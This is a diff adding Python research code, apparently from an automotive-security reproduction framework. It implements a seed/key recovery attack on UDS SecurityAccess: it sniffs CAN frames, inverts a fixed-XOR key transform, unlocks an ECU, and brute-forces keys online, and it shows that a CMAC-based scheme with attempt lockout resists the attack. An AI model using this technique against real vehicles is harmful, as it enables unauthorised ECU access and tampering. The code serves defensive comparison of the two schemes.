@@ -1,0 +1,113 @@
+"""Seed/key recovery attack against UDS SecurityAccess (experiment E15).
+
+Attack chain (the standard aftermarket-tool / chip-tuning break):
+
+1. **Eavesdrop** one legitimate SecurityAccess exchange on the bus
+   (the tester in the repair shop unlocks the ECU; the attacker's dongle
+   records the seed and key frames).
+2. **Recover** the transform: for the fixed-XOR family one pair suffices.
+3. **Unlock** the ECU at will and write protected identifiers.
+
+Against :class:`~repro.diag.seedkey.CmacSeedKey` step 2 fails: the pair
+reveals nothing about the secret, and online guessing hits the attempt
+lockout.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass
+from typing import List, Optional, Tuple
+
+from repro.diag.seedkey import XorSeedKey
+from repro.diag.uds import NegativeResponse, UdsClient, UdsSession
+from repro.ivn.canbus import CanBus
+from repro.ivn.frame import CanFrame
+
+
+@dataclass
+class SniffedExchange:
+    seed: bytes
+    key: bytes
+
+
+class SeedKeyRecoveryAttack:
+    """Passive recovery + active exploitation of weak SecurityAccess."""
+
+    def __init__(self, bus: CanBus, request_id: int, response_id: int) -> None:
+        """``request_id``/``response_id``: the diagnostic CAN id pair to
+        watch (tester->ECU and ECU->tester)."""
+        self.request_id = request_id
+        self.response_id = response_id
+        self.exchanges: List[SniffedExchange] = []
+        self._pending_seed: Optional[bytes] = None
+        bus.tap(self._observe)
+
+    def _observe(self, frame: CanFrame) -> None:
+        # Single-frame ISO-TP only (seed/key exchanges fit in one frame).
+        if frame.dlc < 2 or (frame.data[0] & 0xF0) != 0x00:
+            return
+        length = frame.data[0] & 0x0F
+        payload = frame.data[1 : 1 + length]
+        if frame.can_id == self.response_id and len(payload) >= 3 \
+                and payload[0] == 0x67 and payload[1] == 0x01:
+            seed = payload[2:]
+            if any(seed):
+                self._pending_seed = bytes(seed)
+        elif frame.can_id == self.request_id and len(payload) >= 3 \
+                and payload[0] == 0x27 and payload[1] == 0x02:
+            if self._pending_seed is not None:
+                self.exchanges.append(
+                    SniffedExchange(self._pending_seed, bytes(payload[2:]))
+                )
+                self._pending_seed = None
+
+    # ------------------------------------------------------------------
+    def recover_xor_constant(self) -> Optional[bytes]:
+        """Invert the XOR transform from the first sniffed exchange;
+        cross-check against any further ones."""
+        if not self.exchanges:
+            return None
+        candidate = XorSeedKey.recover_constant(
+            self.exchanges[0].seed, self.exchanges[0].key,
+        )
+        algorithm = XorSeedKey(candidate)
+        for exchange in self.exchanges[1:]:
+            if algorithm.compute_key(exchange.seed) != exchange.key:
+                return None  # not the XOR family (e.g. CMAC-based)
+        return candidate
+
+    @staticmethod
+    def exploit(client: UdsClient, constant: bytes) -> bool:
+        """Unlock a fresh session using the recovered constant."""
+        algorithm = XorSeedKey(constant)
+        try:
+            client.start_session(UdsSession.EXTENDED)
+            client.unlock(algorithm)
+            return True
+        except (NegativeResponse, TimeoutError):
+            return False
+
+    @staticmethod
+    def online_bruteforce(client: UdsClient, rng: random.Random,
+                          attempts: int) -> Tuple[bool, int]:
+        """Fallback when recovery fails: guess keys online.
+
+        Returns (unlocked, attempts_used).  Against a 32-bit key space
+        with a 3-attempt lockout this is hopeless -- which is the point.
+        """
+        try:
+            client.start_session(UdsSession.EXTENDED)
+        except NegativeResponse:
+            return (False, 0)
+        for attempt in range(1, attempts + 1):
+            try:
+                seed = client.request_seed()
+                client.send_key(rng.randbytes(len(seed)))
+                return (True, attempt)
+            except NegativeResponse as exc:
+                if exc.nrc == 0x36:  # exceededNumberOfAttempts
+                    return (False, attempt)
+            except TimeoutError:
+                return (False, attempt)
+        return (False, attempts)
